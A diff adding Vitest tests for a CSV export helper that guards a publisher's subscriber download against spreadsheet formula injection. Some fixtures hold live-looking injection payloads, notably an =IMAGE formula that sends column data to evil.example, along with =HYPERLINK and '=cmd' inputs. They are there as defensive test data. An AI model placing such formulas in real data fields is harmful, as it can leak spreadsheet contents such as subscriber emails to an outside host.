@@ -1,0 +1,56 @@
+/** CSV files for the publisher's spreadsheet: no cell can run as a formula, every cell is quoted. */
+import { describe, expect, it } from 'vitest';
+import { csvCell, toCsv } from '@/lib/csv';
+import { subscribersCsv } from '@/features/admin/api';
+
+describe('csvCell', () => {
+  it('neutralises a formula that would send the sheet to another site', () => {
+    expect(csvCell('=IMAGE("https://evil.example/?"&JOIN(",",A2:A99))')).toBe(`"'=IMAGE(""https://evil.example/?""&JOIN("","",A2:A99))"`);
+  });
+
+  it.each([
+    ['=1+1', `"'=1+1"`],
+    ['+61 2 9999 9999', `"'+61 2 9999 9999"`],
+    ['-2+3', `"'-2+3"`],
+    ['@SUM(A1:A2)', `"'@SUM(A1:A2)"`],
+    ['\t=cmd', `"'\t=cmd"`],
+    ['\r=cmd', `"'\r=cmd"`],
+  ])('prefixes %j with a quote', (value, cell) => expect(csvCell(value)).toBe(cell));
+
+  it.each([
+    ['jane@example.com', '"jane@example.com"'],
+    ['a,b', '"a,b"'],
+    ['say "hi"', '"say ""hi"""'],
+    ['two\nlines', '"two\nlines"'],
+    ['a;=1+1', '"a;=1+1"'],
+    ['', '""'],
+  ])('quotes %j as one cell', (value, cell) => expect(csvCell(value)).toBe(cell));
+
+  it('writes numbers and empty values', () => {
+    expect(csvCell(3)).toBe('"3"');
+    expect(csvCell(-3)).toBe(`"'-3"`);
+    expect(csvCell(null)).toBe('""');
+    expect(csvCell(undefined)).toBe('""');
+  });
+});
+
+describe('toCsv', () => {
+  it('a header row, then a row per record, CRLF line endings', () => {
+    expect(toCsv(['email', 'note'], [['a@example.com', '=HYPERLINK("https://evil.example")']])).toBe('"email","note"\r\n"a@example.com","\'=HYPERLINK(""https://evil.example"")"\r\n');
+  });
+});
+
+describe('the subscribers download', () => {
+  it('is email,subscribed_at, with every cell neutralised and quoted', () => {
+    const csv = subscribersCsv([
+      { id: '1', email: 'parent@example.com.au', created_at: '2026-11-24T01:02:03Z' },
+      { id: '2', email: '=IMAGE("https://evil.example/?"&JOIN(",",A2:A99))', created_at: '2026-11-24T04:05:06Z' },
+    ]);
+    expect(csv.split('\r\n')).toEqual([
+      '"email","subscribed_at"',
+      '"parent@example.com.au","2026-11-24T01:02:03Z"',
+      `"'=IMAGE(""https://evil.example/?""&JOIN("","",A2:A99))","2026-11-24T04:05:06Z"`,
+      '',
+    ]);
+  });
+});
